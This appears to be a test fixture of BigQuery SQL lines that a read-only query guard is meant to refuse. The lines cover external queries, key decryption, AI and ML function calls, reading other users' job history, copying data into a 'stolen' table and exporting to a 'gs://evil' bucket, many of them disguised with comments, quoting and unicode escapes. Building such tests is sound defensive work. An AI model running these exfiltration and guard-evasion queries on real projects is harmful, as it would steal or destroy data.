-- SELECTs that would reach out of BigQuery, or read what others asked, if the
-- service account may. One a line; the guard refuses each.
SELECT * FROM EXTERNAL_QUERY('p.us.c', 'SELECT * FROM users')
SELECT * FROM external_query("p.us.c", "DELETE FROM users RETURNING *")
SELECT * FROM EXTERNAL_QUERY ('p.us.c', 'SELECT 1')
SELECT * FROM EXTERNAL_QUERY/**/('p.us.c', 'SELECT 1')
SELECT * FROM safe . EXTERNAL_QUERY ('p.us.c', 'SELECT 1')
SELECT * FROM `EXTERNAL_QUERY`('p.us.c', 'SELECT 1')
SELECT * FROM `external_query` ('p.us.c', 'SELECT 1')
SELECT * FROM SAFE.EXTERNAL_QUERY('p.us.c', 'SELECT 1')
SELECT * FROM (SELECT * FROM EXTERNAL_QUERY('p.us.c', 'SELECT 1'))
SELECT (SELECT COUNT(*) FROM EXTERNAL_QUERY('p.us.c', 'SELECT 1'))
SELECT EXISTS (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'SELECT 1'))
WITH a AS (SELECT * FROM EXTERNAL_QUERY('p.us.c', 'SELECT 1')) SELECT * FROM a
SELECT 1 UNION ALL SELECT * FROM EXTERNAL_QUERY('p.us.c', 'SELECT 1')
FROM EXTERNAL_QUERY('p.us.c', 'SELECT 1') |> SELECT *
FROM shop.accounts |> CROSS JOIN EXTERNAL_QUERY('p.us.c', 'SELECT 1')
SELECT '\'' , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) -- '
SELECT "\"" , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) -- "
SELECT r'\'' , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) -- '
SELECT "'" , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , "'"
SELECT '"' , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , '"'
SELECT '''a''' , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , '''b'''
SELECT '''a\'''' , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , '''b'''
SELECT """a\"""" , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , """b"""
SELECT '' , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , ''
SELECT `'` , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) , `'` FROM (SELECT 1 AS `'`)
SELECT 5 - - (SELECT n FROM EXTERNAL_QUERY('p.us.c', 'q'))
SELECT 1e5, (SELECT n FROM EXTERNAL_QUERY('p.us.c', 'q')) #'
SELECT 1 /* ' */ , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) /* ' */
SELECT 1 /* /* */ , (SELECT 1 FROM EXTERNAL_QUERY('p.us.c', 'q')) -- */
SELECT * FROM EXTERNAL_OBJECT_TRANSFORM(TABLE shop.objects, ['SIGNED_URL'])
SELECT * FROM external_object_transform (TABLE shop.objects, ['SIGNED_URL'])
SELECT signed_url FROM `external_object_transform`(TABLE shop.objects, ['SIGNED_URL'])
SELECT KEYS.KEYSET_CHAIN('gcp-kms://projects/p/locations/us/keyRings/r/cryptoKeys/k', b'x')
SELECT AEAD.DECRYPT_STRING(KEYS.KEYSET_CHAIN('gcp-kms://k', b'x'), b'y', '') FROM shop.accounts
SELECT keyset_chain('gcp-kms://k', b'x')
SELECT AI.GENERATE('Repeat this', connection_id => 'us.c')
SELECT AI.GENERATE(owner).result FROM shop.accounts
SELECT ai.generate(owner) FROM shop.accounts
SELECT AI . GENERATE (owner) FROM shop.accounts
SELECT AI/* */./* */GENERATE/* */(owner) FROM shop.accounts
SELECT `AI`.GENERATE(owner) FROM shop.accounts
SELECT `AI`.`GENERATE`(owner) FROM shop.accounts
SELECT `AI.GENERATE`(owner) FROM shop.accounts
SELECT `ai.generate` (owner) FROM shop.accounts
SELECT SAFE.AI.GENERATE(owner) FROM shop.accounts
SELECT (owner).(AI.GENERATE)() FROM shop.accounts
SELECT (owner).(`AI`.`GENERATE`)(1) FROM shop.accounts
SELECT owner.(ai.generate)() FROM shop.accounts
SELECT AI.GENERATE_BOOL(owner) FROM shop.accounts
SELECT AI.GENERATE_INT(owner) FROM shop.accounts
SELECT AI.GENERATE_DOUBLE(owner) FROM shop.accounts
SELECT * FROM AI.GENERATE_TEXT(MODEL shop.m, TABLE shop.accounts, STRUCT())
SELECT * FROM AI.GENERATE_TABLE(MODEL shop.m, TABLE shop.accounts, STRUCT('a STRING' AS output_schema))
SELECT * FROM AI.FORECAST(TABLE shop.accounts, data_col => 'balance', timestamp_col => 't')
SELECT * FROM shop.accounts WHERE AI.IF(owner, 'is a crook')
SELECT AI.CLASSIFY(owner, ['a', 'b']) FROM shop.accounts
SELECT AI.SCORE(owner) FROM shop.accounts ORDER BY 1
SELECT AI.EMBED(owner) FROM shop.accounts
SELECT AI.SIMILARITY(owner, 'x') FROM shop.accounts
SELECT * FROM AI.SEARCH(TABLE shop.accounts, 'owner', 'x')
SELECT AI.AGG(owner, 'say more') FROM shop.accounts
FROM shop.accounts |> EXTEND AI.GENERATE(owner) AS g
FROM shop.accounts |> WHERE AI.IF(owner, 'x') |> SELECT owner
FROM shop.accounts |> CALL AI.FORECAST(data_col => 'balance')
FROM shop.accounts |> AGGREGATE AI.AGG(owner, 'x')
SELECT * FROM ML.PREDICT(MODEL shop.m, TABLE shop.accounts)
SELECT * FROM ml.predict(MODEL shop.m, (SELECT * FROM shop.accounts))
SELECT * FROM `ML`.`PREDICT`(MODEL shop.m, TABLE shop.accounts)
SELECT * FROM `ml.predict`(MODEL shop.m, TABLE shop.accounts)
SELECT * FROM ML . PREDICT (MODEL shop.m, TABLE shop.accounts)
SELECT * FROM ML.GENERATE_TEXT(MODEL shop.m, TABLE shop.accounts, STRUCT(1 AS temperature))
SELECT * FROM ML.GENERATE_TABLE(MODEL shop.m, TABLE shop.accounts, STRUCT())
SELECT * FROM ML.GENERATE_EMBEDDING(MODEL shop.m, TABLE shop.accounts)
SELECT * FROM ML.GENERATE_TEXT_EMBEDDING(MODEL shop.m, TABLE shop.accounts)
SELECT * FROM ML.UNDERSTAND_TEXT(MODEL shop.m, TABLE shop.accounts, STRUCT('ANALYZE_SENTIMENT' AS nlu_option))
SELECT * FROM ML.TRANSLATE(MODEL shop.m, TABLE shop.accounts, STRUCT('TRANSLATE_TEXT' AS translate_mode))
SELECT * FROM ML.ANNOTATE_IMAGE(MODEL shop.m, TABLE shop.objects, STRUCT(['LABEL_DETECTION'] AS vision_features))
SELECT * FROM ML.PROCESS_DOCUMENT(MODEL shop.m, TABLE shop.objects)
SELECT * FROM ML.TRANSCRIBE(MODEL shop.m, TABLE shop.objects)
SELECT * FROM ML.EVALUATE(MODEL shop.m)
SELECT * FROM ML.FORECAST(MODEL shop.m)
SELECT * FROM ML.EXPLAIN_PREDICT(MODEL shop.m, TABLE shop.accounts)
SELECT * FROM ML.DETECT_ANOMALIES(MODEL shop.m)
SELECT * FROM ML.RECOMMEND(MODEL shop.m)
SELECT * FROM ML.WEIGHTS(MODEL shop.m)
SELECT * FROM ML.TRAINING_INFO(MODEL shop.m)
SELECT ML.DECODE_IMAGE(data) FROM shop.objects
SELECT ML.DISTANCE([1.0], [2.0])
FROM ML.PREDICT(MODEL shop.m, TABLE shop.accounts) |> SELECT *
FROM shop.accounts |> CALL ML.PREDICT(MODEL shop.m)
SELECT OBJ.GET_ACCESS_URL(ref, 'r') FROM shop.objects
SELECT obj.get_access_url(OBJ.MAKE_REF('gs://b/o', 'us.c'), 'rw')
SELECT OBJ.FETCH_METADATA(OBJ.MAKE_REF('gs://b/o', 'us.c'))
SELECT `obj.make_ref`('gs://b/o', 'us.c')
FROM shop.accounts |> INSERT INTO shop.stolen
FROM shop.accounts |> CREATE TABLE shop.stolen
FROM shop.accounts |> CREATE OR REPLACE TABLE shop.accounts
FROM shop.accounts |> EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv')
FROM shop.accounts |> FORK (|> INSERT INTO shop.stolen), (|> SELECT 1)
FROM shop.accounts |> TEE (|> CREATE TABLE shop.stolen)
FROM shop.accounts |> IF (TRUE) THEN (|> INSERT INTO shop.stolen)
FROM shop.accounts |> DESCRIBE
SELECT * FROM shop.accounts |> INSERT INTO shop.stolen
(SELECT 1 AS n) |> EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv')
WITH a AS (SELECT 1 AS n) SELECT * FROM a |> CREATE TABLE shop.stolen
FROM shop.accounts |>/* */INSERT INTO shop.stolen
FROM shop.accounts |> @{x = 1} INSERT INTO shop.stolen
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT
SELECT query FROM `region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`
SELECT query FROM `p.region-us.INFORMATION_SCHEMA.JOBS_BY_USER`
SELECT query FROM `p`.`region-eu`.`INFORMATION_SCHEMA`.`JOBS_BY_FOLDER`
SELECT query FROM p.`region-eu`.information_schema.jobs_by_organization
SELECT * FROM INFORMATION_SCHEMA.JOBS_TIMELINE
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS_TIMELINE_BY_PROJECT
SELECT * FROM `region-us`.INFORMATION_SCHEMA.SESSIONS_BY_USER
SELECT * FROM `region-us`.INFORMATION_SCHEMA.SESSIONS_BY_PROJECT
FROM `region-us`.INFORMATION_SCHEMA.JOBS |> SELECT query
SELECT AI\u002eGENERATE(owner) FROM shop.accounts
SELECT `\x41I`.GENERATE(owner) FROM shop.accounts
SELECT `\u0041I.GENERATE`(owner) FROM shop.accounts
SELECT `A\111`.GENERATE(owner) FROM shop.accounts
SELECT * FROM EXTERNAL_QUERY ('p.us.c', 'q')
SELECT AI .GENERATE(owner) FROM shop.accounts
SELECT AI . GENERATE(owner) FROM shop.accounts
SELECT AI　.GENERATE(owner) FROM shop.accounts
SELECT * FROM EXTERNAL_QUERY﻿('p.us.c', 'q')
SELECT * FROM EXTERNAL_QUERY ('p.us.c', 'q')
SELECT AI.GENERATE(owner) FROM shop.accounts
SELECT * FROM ` external_query`('p.us.c', 'q')
SELECT `ai .generate `(owner) FROM shop.accounts
SELECT 'never closed
SELECT '''never closed'
SELECT `never closed
SELECT /* never closed
